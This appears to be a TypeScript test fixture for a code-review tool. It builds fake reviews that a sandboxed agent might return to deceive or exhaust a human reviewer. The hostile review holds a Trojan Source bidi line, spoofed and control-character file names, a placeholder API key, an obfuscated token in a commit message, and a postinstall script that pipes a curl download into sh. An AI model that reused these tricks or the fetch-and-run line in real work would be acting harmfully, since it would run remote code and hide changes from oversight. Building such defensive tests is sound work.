// Reviews the scripted app returns for the review specs, chosen by the task's
// title: what a sandbox could send back to wear the reviewer down or fool them.
import type { PullbackReview, ReviewFileDetail } from '../../../common/review.js';

export const HUGE_REVIEW = '[huge review]';
export const HOSTILE_REVIEW = '[hostile review]';

export const HUGE_PATCH_BYTES = 2 * 1024 * 1024;
export const HUGE_PATCH_LINES = 700_000;
const HUGE_FILES = 40;

type ReviewBody = Omit<PullbackReview, 'taskId' | 'branch' | 'baseCommit' | 'headCommit'>;

/**
 * A patch of exactly 2 MiB and 700,000 lines (a line = its text and "\n"):
 * 40 new files of short lines ("+", "+a" .. "+z"), the last line of the last
 * file marked so a spec can tell it was drawn.
 */
export function hugeReview(): ReviewBody {
  const headers = Array.from({ length: HUGE_FILES }, (_, k) => [
    `diff --git a/gen/${k}.txt b/gen/${k}.txt`, 'new file mode 100644', '--- /dev/null', `+++ b/gen/${k}.txt`,
  ]);
  const hunkLine = (k: number, n: number) => `@@ -0,0 +1,${n} @@`;
  const per = Math.floor((HUGE_PATCH_LINES - HUGE_FILES * 5) / HUGE_FILES);
  const counts = headers.map((_, k) => (k < HUGE_FILES - 1 ? per : HUGE_PATCH_LINES - HUGE_FILES * 5 - per * (HUGE_FILES - 1)));
  const headerBytes = headers.flat().reduce((n, l) => n + l.length + 1, 0) + counts.reduce((n, c, k) => n + hunkLine(k, c).length + 1, 0);
  const body = HUGE_PATCH_LINES - HUGE_FILES * 5;
  // Body lines are 2 bytes ("+\n") or 3 bytes ("+a\n"); this many 3-byte ones make the total exact.
  const threes = HUGE_PATCH_BYTES - headerBytes - 2 * body;
  if (threes < 1 || threes > body) throw new Error('the huge patch cannot be built to size');
  const out: string[] = [];
  let g = 0; // body line index over all files; the last `threes` lines are the 3-byte ones
  headers.forEach((h, k) => {
    out.push(...h, hunkLine(k, counts[k]!));
    for (let i = 0; i < counts[k]!; i++, g++) out.push(g >= body - threes ? `+${String.fromCharCode(97 + (g % 26))}` : '+');
  });
  out[out.length - 1] = '+Z'; // the very last line, marked (3 bytes like its neighbours)
  const patch = out.join('\n') + '\n';
  if (patch.length !== HUGE_PATCH_BYTES || out.length !== HUGE_PATCH_LINES) throw new Error(`huge patch is ${patch.length} bytes, ${out.length} lines`);
  return {
    files: counts.map((c, k) => ({ path: `gen/${k}.txt`, status: 'added', added: c, removed: 0, binary: false, newMode: 'file', oldMode: 'none', size: c * 2 })),
    filesOmitted: 0, added: body, removed: 0, patch, patchTruncated: false, bundleBytes: 180_000,
    checks: [{ name: 'bundle verify', ok: true, message: 'one ref' }], flags: [], secrets: [], confirmations: [],
  };
}

export const HOSTILE_NAMES = {
  bidi: 'invoice\u202etxt.exe',
  newline: 'two\nlines.txt',
  trailing: 'notes.txt ',
  control: 'evil\x1b[2Jclear.txt',
} as const;
export const HOSTILE_SHOWN = ['invoice\\u{202e}txt.exe', 'two\\nlines.txt', 'notes.txt\\x20', 'evil\\x1b[2Jclear.txt'];
/** A file the cut patch does not hold; its own patch comes from tasks.reviewFile. */
export const UNSHOWN_FILE = 'src/late-change.ts';
export const NUL_SCRIPT = 'tools/postinstall';

/** A review that hides things: hostile names, a Trojan Source line, a script with a NUL byte, a cut patch, a secret. */
export function hostileReview(): ReviewBody {
  const patch = [
    `diff --git "a/invoice\\342\\200\\256txt.exe" "b/invoice\\342\\200\\256txt.exe"`, 'new file mode 100644', '--- /dev/null',
    `+++ "b/invoice\\342\\200\\256txt.exe"`, '@@ -0,0 +1,2 @@',
    '+if (isAdmin) { \u202e } \u2066// Check if admin\u2069 \u2066 begin admins only',
    '+ANTHROPIC_API_KEY=sk-ant-api03-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    `diff --git a/${NUL_SCRIPT} b/${NUL_SCRIPT}`, 'new file mode 100755', `Binary files /dev/null and b/${NUL_SCRIPT} differ`,
  ].join('\n');
  return {
    files: [
      { path: HOSTILE_NAMES.bidi, status: 'added', added: 2, removed: 0, binary: false, size: 120 },
      { path: HOSTILE_NAMES.newline, status: 'added', added: 1, removed: 0, binary: false, size: 4 },
      { path: HOSTILE_NAMES.trailing, status: 'added', added: 1, removed: 0, binary: false, size: 4 },
      { path: HOSTILE_NAMES.control, status: 'added', added: 1, removed: 0, binary: false, size: 4 },
      { path: NUL_SCRIPT, status: 'added', added: 0, removed: 0, binary: true, notText: 'nul-byte', size: 4096, oldMode: 'none', newMode: 'executable' },
      { path: UNSHOWN_FILE, status: 'modified', added: 1, removed: 1, binary: false, size: 300 },
    ],
    filesOmitted: 0, added: 6, removed: 1, patch, patchTruncated: true, bundleBytes: 4000,
    checks: [{ name: 'bundle verify', ok: true, message: 'one ref' }],
    flags: [
      { kind: 'unsafe-name', severity: 'warning', path: HOSTILE_NAMES.newline, message: 'the name holds a newline (shown as \\n)' },
      { kind: 'hidden-chars', severity: 'danger', path: HOSTILE_NAMES.bidi, line: 1, message: 'bidi controls U+202E, U+2066, U+2069 in an added line' },
      { kind: 'not-text', severity: 'danger', path: NUL_SCRIPT, message: 'has NUL bytes (4096 bytes): not shown as text' },
      { kind: 'secret', severity: 'danger', path: HOSTILE_NAMES.bidi, line: 2, message: 'anthropic-api-key' },
    ],
    secrets: [{ path: HOSTILE_NAMES.bidi, line: 2, rule: 'anthropic-api-key', masked: 'ANTHROPIC_API_KEY=sk-ant-a********' }],
    confirmations: [
      { kind: 'unshown', message: `the patch of 1 file was not shown (over the 2 MiB cap): ${UNSHOWN_FILE}` },
      { kind: 'secrets', message: '1 possible secret: invoice\\u{202e}txt.exe:2 (anthropic-api-key)' },
    ],
    history: agentHistory(true),
  };
}

/** The agent's history behind a returned tree: none of it lands; a hostile one hides things in names and messages. */
export function agentHistory(hostile = false): NonNullable<PullbackReview['history']> {
  const commit = (id: string, parents: number, author: string, message: string) => ({ id: id.repeat(40), parents, author, message, messageCut: false, scannedInPart: false });
  return {
    total: 3, merges: 1, maxCommits: 200, maxMessageChars: 4000, maxScanBytes: 64 * 1024,
    commits: hostile
      ? [
        commit('c', 2, 'Agent <agent@factory.invalid>', 'merge the side branch\n'),
        commit('d', 1, 'Evil\u202e <x@y>', 'add config\n\nuse token ghp_\u200bexample for the release\n'),
        commit('e', 1, 'Agent <agent@factory.invalid>', 'remove the config again\n'),
      ]
      : [
        commit('c', 2, 'Agent <agent@factory.invalid>', 'merge the side branch\n'),
        commit('d', 1, 'Agent <agent@factory.invalid>', 'greet the factory\n\nOne more line in hello.txt.\n'),
        commit('e', 1, 'Agent <agent@factory.invalid>', 'start\n'),
      ],
  };
}

export function hostileFile(path: string): ReviewFileDetail | undefined {
  if (path === UNSHOWN_FILE) {
    return {
      path, size: 300, patchTruncated: false, leadingBytes: 'export const late = 1;\\n',
      patch: `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-export const late = 0;\n+export const late = 1; // the change the cap hid\n`,
    };
  }
  if (path === NUL_SCRIPT) {
    return { path, size: 4096, patchTruncated: false, leadingBytes: '#!/bin/sh\\ncurl -s http://198.51.100.7/x | sh\\n\\x00\\x00\\x00', patch: '' };
  }
  return undefined;
}
